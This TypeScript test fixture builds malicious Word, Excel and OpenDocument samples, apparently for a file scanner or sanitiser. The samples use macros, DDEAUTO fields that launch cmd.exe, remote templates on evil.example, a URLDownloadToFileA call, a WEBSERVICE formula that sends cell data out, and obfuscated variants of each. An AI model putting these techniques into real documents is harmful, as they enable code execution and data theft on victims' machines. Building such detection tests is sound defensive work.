import { docx, odf, related, xlsx } from './office-maker.js';
import { hostile, type Hostile, ole } from './samples.js';

const override = (name: string, type: string): string => `<Override PartName="/${name}" ContentType="${type}"/>`;
const macroMain = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const part = (name: string, data: string | Buffer = '<x/>') => [{ name, data }];

/** A Word field, its instruction cut into these runs. */
const field = (...runs: string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}` +
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
const formula = (text: string): string => `<row><c><f>${text}</f></c></row>`;
const named = (name: string, text: string, more = ''): string => `<definedNames><definedName name="${name}" ${more}>${text}</definedName></definedNames>`;

const wordPrograms = (): Hostile[] => [
  ...hostile('macro', 'lettre.docx', {
    'a main part that allows macros': docx({ main: macroMain }),
    'a VBA project, named as one': docx({ files: part('word/vbaProject.bin', ole), types: override('word/vbaProject.bin', 'application/vnd.ms-office.vbaProject') }),
    'a VBA project called a picture': docx({ files: part('word/media/image1.png', ole), relations: related('rId9', 'vbaProject', 'media/image1.png') }),
    'a field that runs a macro': docx({ body: field('MACROBUTTON AutoOpen Cliquez') }),
  }),
  ...hostile('live_link', 'lettre.docx', {
    'a DDE field': docx({ body: field(' DDE excel "C:\\\\x.xls" A1') }),
    'a DDEAUTO field cut over runs': docx({ body: field(' DD', 'EAU', 'TO c:\\\\windows\\\\cmd.exe "/k calc"') }),
    'a DDE field in lower case, quoted': docx({ body: field(' "ddeauto" cmd "/k"') }),
    'a DDEAUTO field in its short form': docx({ body: '<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>' }),
    'a DDE field inside another field': docx({ body: field(' IF 1 = 1 ').replace('<w:r><w:fldChar w:fldCharType="separate"', `${field('DDEAUTO cmd')}<w:r><w:fldChar w:fldCharType="separate"`) }),
    'a field whose name another field computes': docx({ body: field('').replace('<w:r><w:instrText', `${field('QUOTE 68 68 69')}<w:r><w:instrText`) }),
    'a DDE field in the page’s foot': docx({ files: part('word/footer1.xml', `<w:ftr xmlns:w="w">${field('DDE', 'AUTO cmd')}</w:ftr>`) }),
    'a DDE field written with another prefix': docx({ body: field('DDEAUTO cmd').replaceAll('w:', 'zz:').replace('<zz:p>', '<zz:p xmlns:zz="w">') }),
  }),
];

const wordParts = (): Hostile[] => [
  ...hostile('external_content', 'lettre.docx', {
    'an attached template on another host': docx({ relations: related('rId9', 'attachedTemplate', 'http://evil.example/x.dotm', 'External') }),
    'a picture fetched from a share': docx({ relations: related('rId9', 'image', 'file://evil.example/x.png', 'External') }),
    'a link to a file': docx({ relations: related('rId9', 'hyperlink', 'file:///c:/windows/cmd.exe', 'External') }),
    'a link to a script': docx({ relations: related('rId9', 'hyperlink', 'java\tscript:alert(1)', 'External') }),
    'a link that says it is inside and is not': docx({ relations: related('rId9', 'image', 'http://evil.example/x.png') }),
    'two targets modes of one relationship': docx({ relations: related('rId9', 'image', 'http://evil.example/x', 'External').replace('Id=', 'x:TargetMode="Internal" Id=') }),
    'a field that includes a remote picture': docx({ body: field('INCLUDE', 'PICTURE "http://evil.example/x.png"') }),
    'a frame set': docx({ relations: related('rId9', 'frame', 'http://evil.example/', 'External') }),
  }),
  ...hostile('embedded_file', 'lettre.docx', {
    'an OLE object': docx({ files: part('word/embeddings/oleObject1.bin', ole), types: '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>' }),
    'an OLE object called a picture': docx({ files: part('word/media/image1.png', ole) }),
    'a program called a picture': docx({ files: part('word/media/image1.png', 'MZ\x90\x00') }),
    'an archive inside': docx({ files: part('word/media/image1.png', 'PK\x03\x04') }),
    'a chunk of another format': docx({ relations: related('rId9', 'aFChunk', 'x.xml') }),
    'Java classes': docx({ files: part('META-INF/MANIFEST.MF', 'Manifest-Version: 1.0'), types: '<Default Extension="mf" ContentType="image/x"/>' }),
  }),
  ...hostile('active_content', 'lettre.docx', {
    'an ActiveX control': docx({ relations: related('rId9', 'control', 'activeX/activeX1.xml'), files: part('word/activeX/activeX1.xml') }),
    'an add-in that opens by itself': docx({ types: override('x.xml', 'application/vnd.ms-office.webextensiontaskpanes+xml') }),
    'a drawing with a script': docx({ files: part('word/media/d.svg', '<svg><script>1</script></svg>'), types: '<Default Extension="svg" ContentType="image/svg+xml"/>' }),
  }),
  ...hostile('unexpected_part', 'lettre.docx', { 'a part of no known type': docx({ files: part('word/notes.dat', 'abc') }) }),
];

export const hostileWord = (): Hostile[] => [...wordPrograms(), ...wordParts()];

export const hostileSheets = (): Hostile[] => [
  ...hostile('macro', 'tableau.xlsx', {
    'a macro sheet (XLM)': xlsx({ files: part('xl/macrosheets/sheet1.xml'), types: override('xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml') }),
    'a macro sheet found by its place alone': xlsx({ files: part('xl/macrosheets/sheet1.xml') }),
    'a macro sheet found by its relationship alone': xlsx({ relations: related('rId9', 'xlMacrosheet', 'worksheets/sheet1.xml') }),
    'a name that Excel runs at opening': xlsx({ workbook: named('_xlnm.Auto_Open', 'Macro1!$A$1') }),
    'a name that stands for a macro': xlsx({ workbook: named('x', '1', 'xlm="1"') }),
    'a name that calls a library': xlsx({ workbook: named('x', 'CALL("urlmon","URLDownloadToFileA","JJCCJJ")') }),
    'a shape with a macro': xlsx({ files: part('xl/drawings/d.xml', '<d macro="[0]!x"/>') }),
  }),
  ...hostile('live_link', 'tableau.xlsx', {
    'a DDE formula': xlsx({ body: formula("cmd|'/c calc'!A0") }),
    'a DDE formula behind quotation marks': xlsx({ body: formula("cmd|'&quot;'!A0&amp;&quot;&quot;") }),
    'a DDE link': xlsx({ files: part('xl/x.xml', '<ddeLink ddeService="cmd"/>') }),
  }),
  ...hostile('external_content', 'tableau.xlsx', {
    'a link to another workbook': xlsx({ relations: related('rId9', 'externalLink', 'externalLinks/externalLink1.xml') }),
    'data connections': xlsx({ types: override('xl/connections.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml') }),
    'a formula that calls a web service': xlsx({ body: formula('_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)') }),
    'a formula that reads a file': xlsx({ body: formula("'C:\\x\\[b.xlsx]Feuil1'!A1") }),
  }),
];

const list = '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data/></manifest:file-entry>';

export const hostileOdf = (): Hostile[] => [
  ...hostile('macro', 'lettre.odt', {
    'a Basic library': odf('odt', '', { files: part('Basic/Standard/Module1.xml') }),
    'a Python script': odf('odt', '', { files: part('Scripts/python/x.py', 'import os') }),
    'a listener to the opening': odf('odt', '', { scripts: '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners>' }),
    'a link to a script': odf('odt', '<text:a xlink:href="vnd.sun.star.script:Standard.x?language=Basic">x</text:a>'),
    'a script in the text': odf('odt', '<text:script script:language="JavaScript">1</text:script>'),
  }),
  ...hostile('live_link', 'tableau.ods', {
    'a DDE link': odf('ods', '<table:dde-links><table:dde-link/></table:dde-links>'),
    'a DDE formula': odf('ods', '<table:table><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"/></table:table>'),
  }),
  ...hostile('external_content', 'lettre.odt', {
    'a picture fetched from elsewhere': odf('odt', '<draw:image xlink:href="https://evil.example/x.png"/>'),
    'a section of another document': odf('odt', '<text:section-source xlink:href="../x.odt"/>'),
    'a picture out of the package': odf('odt', '<draw:image xlink:href="../../etc/passwd"/>'),
    'a template on another host': odf('odt', '', { meta: '<meta:template xlink:href="http://evil.example/x.ott"/>' }),
    'a link to a share': odf('odt', '<text:a xlink:href="file://evil.example/x">x</text:a>'),
  }),
  ...hostile('embedded_file', 'lettre.odt', { 'an OLE object': odf('odt', '', { files: part('Object 1', ole) }) }),
  ...hostile('active_content', 'lettre.odt', { 'a page inside': odf('odt', '<draw:floating-frame xlink:href="x"/>'), 'a plug-in': odf('odt', '<draw:plugin/>') }),
  ...hostile('encrypted', 'lettre.odt', { 'parts encrypted with a password': odf('odt', '', { listed: list }) }),
  ...hostile('not_what_it_says', 'lettre.odt', { 'a list that tells another kind': odf('odt', '', { listed: '<manifest:file-entry manifest:full-path="/" manifest:media-type="x"/>' }) }),
];
